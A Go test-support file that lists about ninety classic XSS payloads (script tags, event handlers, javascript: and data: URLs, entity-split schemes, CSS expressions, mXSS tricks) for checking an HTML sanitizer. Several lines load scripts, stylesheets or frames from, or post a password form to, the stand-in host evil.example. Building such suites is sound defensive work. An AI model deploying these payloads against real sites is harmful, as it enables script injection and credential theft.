package reliability

import "regexp"

// Vector is one well-known way of smuggling script or navigation into HTML.
type Vector struct {
	Name string
	HTML string
	// Evasion marks a vector that is inert as written and becomes script
	// once a naive filter deletes "<script>" and "</script>" from it (see
	// NaiveStrip): a sanitizer must not be that filter.
	Evasion bool
}

// NaiveStrip is the filter Evasion vectors defeat: one pass deleting every
// "<script>" and "</script>", ignoring case.
func NaiveStrip(s string) string { return scriptTag.ReplaceAllString(s, "") }

var scriptTag = regexp.MustCompile(`(?i)</?script>`)

// XSSVectors returns well-known XSS vectors: the OWASP filter evasion
// cheat sheet's classics, HTML5 and SVG handlers, URL schemes with encoded
// and entity-split variants, CSS expressions, base/meta/frame/object/form
// tricks and parser-confusion (malformed, mXSS) variants. Every one is
// unsafe as written, or after NaiveStrip for the Evasion ones: the suite
// checks that UnsafeHTML flags each, so a vector the checker could not see
// would fail the suite rather than pass it vacuously. A fresh slice is
// returned on each call.
func XSSVectors() []Vector {
	return []Vector{
		// Script elements.
		{"script", `<script>alert(1)</script>`, false},
		{"script src", `<script src="http://evil.example/x.js"></script>`, false},
		{"script upper case", `<SCRIPT>alert(1)</SCRIPT>`, false},
		{"script nested split", `<scr<script>ipt>alert(1)</script>`, true},
		{"script double open", `<<script>script>alert(1)<</script>/script>`, false},
		{"script in attribute quote break", `<img """><script>alert(1)</script>">`, false},
		{"script after noscript title", `<noscript><p title="</noscript><script>alert(1)</script>">`, false},
		{"script in svg", `<svg><script>alert(1)</script></svg>`, false},
		{"script in math mglyph mXSS", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, false},
		{"script in template", `<template><script>alert(1)</script></template>`, false},
		{"script after comment confusion", `<!--<img src="--><script>alert(1)</script>//">`, false},
		{"script in textarea breakout", `</textarea><script>alert(1)</script>`, false},
		{"script in title breakout", `</title><script>alert(1)</script>`, false},
		{"script unclosed tag", `<script>alert(1)`, false},
		// Event handlers.
		{"img onerror", `<img src=x onerror=alert(1)>`, false},
		{"img onerror slash separated", `<img/src="x"/onerror=alert(1)>`, false},
		{"img onerror entity", `<img src=x onerror="&#97;lert(1)">`, false},
		{"img onerror backtick", "<img src=x onerror=`alert(1)`>", false},
		{"img onerror tab separated", "<img\tsrc=x\tonerror=alert(1)>", false},
		{"body onload", `<body onload=alert(1)>`, false},
		{"svg onload", `<svg onload=alert(1)>`, false},
		{"svg onload slash", `<svg/onload=alert(1)>`, false},
		{"svg animate href", `<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>`, false},
		{"svg set href", `<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>`, false},
		{"details ontoggle", `<details open ontoggle=alert(1)>`, false},
		{"video source onerror", `<video><source onerror=alert(1)></video>`, false},
		{"audio onerror", `<audio src=x onerror=alert(1)>`, false},
		{"input onfocus autofocus", `<input onfocus=alert(1) autofocus>`, false},
		{"marquee onstart", `<marquee onstart=alert(1)>x</marquee>`, false},
		{"div onmouseover", `<div onmouseover="alert(1)">hover</div>`, false},
		{"a onclick", `<a href="#" onclick="alert(1)">x</a>`, false},
		{"handler mixed case", `<IMG SRC=x OnErRoR=alert(1)>`, false},
		{"style onload", `<style onload=alert(1)></style>`, false},
		// URL schemes.
		{"a javascript", `<a href="javascript:alert(1)">x</a>`, false},
		{"a javascript mixed case", `<a href="JaVaScRiPt:alert(1)">x</a>`, false},
		{"a javascript leading space", `<a href="  javascript:alert(1)">x</a>`, false},
		{"a javascript leading control", "<a href=\"\x01javascript:alert(1)\">x</a>", false},
		{"a javascript tab split", "<a href=\"jav\tascript:alert(1)\">x</a>", false},
		{"a javascript newline split", "<a href=\"java\nscript:alert(1)\">x</a>", false},
		{"a javascript entity tab", `<a href="jav&#x09;ascript:alert(1)">x</a>`, false},
		{"a javascript entity newline", `<a href="jav&#x0A;ascript:alert(1)">x</a>`, false},
		{"a javascript decimal entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`, false},
		{"a javascript padded decimal entities", `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`, false},
		{"a javascript hex entities no semicolons", `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`, false},
		{"a javascript colon entity", `<a href="javascript&colon;alert(1)">x</a>`, false},
		{"a vbscript", `<a href="vbscript:msgbox(1)">x</a>`, false},
		{"a data html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, false},
		{"a data mixed case", `<a href="DaTa:text/html,<script>alert(1)</script>">x</a>`, false},
		{"a livescript", `<a href="livescript:alert(1)">x</a>`, false},
		{"img src javascript", `<IMG SRC="javascript:alert('XSS');">`, false},
		{"img src javascript unquoted", `<IMG SRC=javascript:alert('XSS')>`, false},
		{"img lowsrc javascript", `<img lowsrc="javascript:alert(1)">`, false},
		{"img dynsrc javascript", `<img dynsrc="javascript:alert(1)">`, false},
		{"img srcset javascript", `<img srcset="javascript:alert(1) 1x">`, false},
		{"table background javascript", `<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`, false},
		{"svg a xlink href", `<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`, false},
		{"math href", `<math href="javascript:alert(1)">x</math>`, false},
		{"button formaction", `<form><button formaction="javascript:alert(1)">x</button></form>`, false},
		{"input image src javascript", `<input type="image" src="javascript:alert(1)">`, false},
		{"video poster javascript", `<video poster="javascript:alert(1)"></video>`, false},
		{"blockquote cite javascript", `<blockquote cite="javascript:alert(1)">x</blockquote>`, false},
		{"area href javascript", `<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,10,10></map>`, false},
		// CSS.
		{"style attribute expression", `<div style="width: expression(alert(1))">x</div>`, false},
		{"style attribute expression escaped", `<div style="width: expr\65 ssion(alert(1))">x</div>`, false},
		{"style attribute expression comment split", `<div style="width: expr/**/ession(alert(1))">x</div>`, false},
		{"style attribute url javascript", `<div style="background:url(javascript:alert(1))">x</div>`, false},
		{"style attribute behavior", `<div style="behavior: url(xss.htc)">x</div>`, false},
		{"style attribute moz binding", `<div style="-moz-binding: url(http://evil.example/xss.xml#xss)">x</div>`, false},
		{"style element import", `<style>@import 'http://evil.example/xss.css';</style>`, false},
		{"style element expression", `<style>body { width: expression(alert(1)) }</style>`, false},
		{"link stylesheet javascript", `<link rel="stylesheet" href="javascript:alert(1)">`, false},
		// Base, meta, frames, plugins, forms.
		{"base href", `<base href="http://evil.example/">`, false},
		{"base href javascript", `<base href="javascript:alert(1)//">`, false},
		{"meta refresh javascript", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, false},
		{"meta refresh data", `<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, false},
		{"meta refresh http", `<meta http-equiv="refresh" content="0;url=http://evil.example/">`, false},
		{"iframe", `<iframe src="http://evil.example/"></iframe>`, false},
		{"iframe javascript", `<iframe src="javascript:alert(1)"></iframe>`, false},
		{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, false},
		{"frameset", `<frameset><frame src="javascript:alert(1)"></frameset>`, false},
		{"object data", `<object data="http://evil.example/x.swf"></object>`, false},
		{"object data javascript", `<object data="javascript:alert(1)"></object>`, false},
		{"embed", `<embed src="http://evil.example/x.swf">`, false},
		{"embed svg data", `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, false},
		{"applet", `<applet code="X.class" codebase="http://evil.example/"></applet>`, false},
		{"form action javascript", `<form action="javascript:alert(1)"><input type=submit></form>`, false},
		{"form phishing", `<form action="http://evil.example/login" method=post><input name=password type=password></form>`, false},
		{"isindex", `<isindex action="javascript:alert(1)" type=image>`, false},
		// Conditional comments (Outlook, old IE).
		{"conditional comment script", `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, false},
	}
}
